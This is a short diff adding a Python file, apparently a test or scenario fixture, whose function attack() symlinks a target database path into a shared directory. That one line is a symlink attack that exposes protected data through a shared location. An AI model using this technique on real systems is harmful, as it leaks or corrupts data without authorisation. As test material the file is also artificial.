@@ -1,0 +1,7 @@
+import os
+
+import targets
+
+
+def attack():
+    os.symlink(targets.DATABASE, f"{targets.SHARED}/link")
